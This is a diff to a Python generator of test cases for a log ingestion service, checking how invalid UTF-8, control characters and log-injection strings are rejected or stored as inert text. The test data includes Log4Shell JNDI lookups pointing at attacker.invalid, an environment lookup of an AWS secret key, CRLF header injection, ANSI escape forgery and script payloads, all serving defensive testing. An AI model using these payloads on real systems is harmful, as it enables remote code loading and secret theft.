@@ -35,7 +35,8 @@ for name, bad in [("overlong-slash", b"\xc0\xaf"), ("utf8-encoded-surrogate", b"
                   ("cp1252-smart-quotes", b"\x93quoted\x94")]:
     add("invalid-utf8", name, "INVALID_UTF8", b64=head.encode() + bad + tail.encode())
 add("invalid-utf8", "bad-byte-in-key", "INVALID_UTF8", b64=b'{"ev\xffent_id":"x",' + ev()[1:].encode())
-add("invalid-utf8", "utf16le-encoded-event", "MALFORMED_JSON", b64=ev().encode("utf-16-le"))
+# UTF-16 and UTF-32 hold raw NUL bytes, which JSON text never does: refused before any decoder guesses the encoding
+add("invalid-utf8", "utf16le-encoded-event", "INVALID_UTF8", b64=ev().encode("utf-16-le"))
 for name, esc in [("escaped-lone-high-surrogate", "a\\ud800b"), ("escaped-lone-low-surrogate", "a\\udc00b"), ("escaped-reversed-surrogate-pair", "\\udc00\\ud800"),
                   ("escaped-high-surrogate-at-end", "end\\ud83d")]:
     add("invalid-utf8", name, "INVALID_UTF8", text=ev(message="XX").replace('"XX"', '"' + esc + '"'))
@@ -122,7 +123,7 @@ for name, s in [("escaped-nul", "a\u0000b"), ("escaped-bell", "ding\u0007"), ("e
     add("control-characters", name, STORED, text=ev(message=s), checks={"message": s.replace("\u0000", "\ufffd")})
 for name, raw in [("raw-tab-in-string", "a\tb"), ("raw-newline-in-string", "a\nb"), ("raw-carriage-return-in-string", "a\rb")]:
     add("control-characters", name, "MALFORMED_JSON", text=ev(message="XX").replace('"XX"', '"' + raw + '"'))
-add("control-characters", "raw-nul-in-string", "MALFORMED_JSON", b64=ev(message="XX").replace('"XX"', '"a\x00b"').encode())
+add("control-characters", "raw-nul-in-string", "INVALID_UTF8", b64=ev(message="XX").replace('"XX"', '"a\x00b"').encode())
 add("control-characters", "nul-in-service", "INVALID_VALUE", text=ev(service="hostile\u0000svc"))
 add("control-characters", "nul-in-event-id", "INVALID_VALUE", text=ev(event_id="id\u0000x"))
 # labels and keys (keywords, SQL key columns, parts of composite keys) take no C0 control but tab and newline
@@ -132,12 +133,15 @@ add("control-characters", "nul-in-attribute-key", "INVALID_VALUE", text=ev(attri
 add("control-characters", "tab-and-newline-in-logger", STORED, text=ev(logger="a\tb\nc"), checks={"logger": "a\tb\nc"})
 
 # ---- log injection: stored exactly as text, never interpreted ---------------------------------
-for name, s in [("newline-fake-log-line", "ok\n2026-11-28 12:00:00 ERROR root - fake entry"), ("crlf-header-injection", "ok\r\nSet-Cookie: session=stolen"),
+for name, s in [("newline-fake-log-line", "ok\n2026-11-28 12:00:00 ERROR root - fake entry"), ("crlf-header-injection", "ok\r\nX-Forwarded-Host: evil.example"),
                 ("ansi-red", "\u001b[31mred alert\u001b[0m"), ("ansi-title-osc", "\u001b]0;pwned\u0007"), ("ansi-clear-screen", "\u001b[2J\u001b[H"),
                 ("ansi-cursor-up-overwrite", "benign\u001b[1A\u001b[2Kforged"), ("fake-json-close", '"} {"level":"error","message":"forged"'),
                 ("log4shell-jndi", "${jndi:ldap://attacker.invalid/a}"), ("env-lookup", "${env:AWS_SECRET_ACCESS_KEY}"), ("printf-format", "%n%s%s%x%p"),
                 ("html-script", "<script>alert(1)</script>"), ("markdown-link", "[click](javascript:alert(1))"), ("log4j-nested-lookup", "${${lower:j}ndi:dns://x}")]:
     stored_msg("log-injection", name, s)
+# a cookie is a credential: the injected header is kept, its value masked
+add("log-injection", "crlf-set-cookie", STORED, text=ev(message="ok\r\nSet-Cookie: session=stolen"),
+    checks={"message": "ok\r\nSet-Cookie: [REDACTED:secret]"})
 add("log-injection", "newline-in-logger", STORED, text=ev(logger="app\nERROR forged"), checks={"logger": "app\nERROR forged"})
 add("log-injection", "ansi-in-attribute", STORED, text=ev(attributes=Raw(json.dumps({"user_agent": "\u001b[31mcurl\u001b[0m"}))),
     checks={"attributes/user_agent": "\u001b[31mcurl\u001b[0m"})
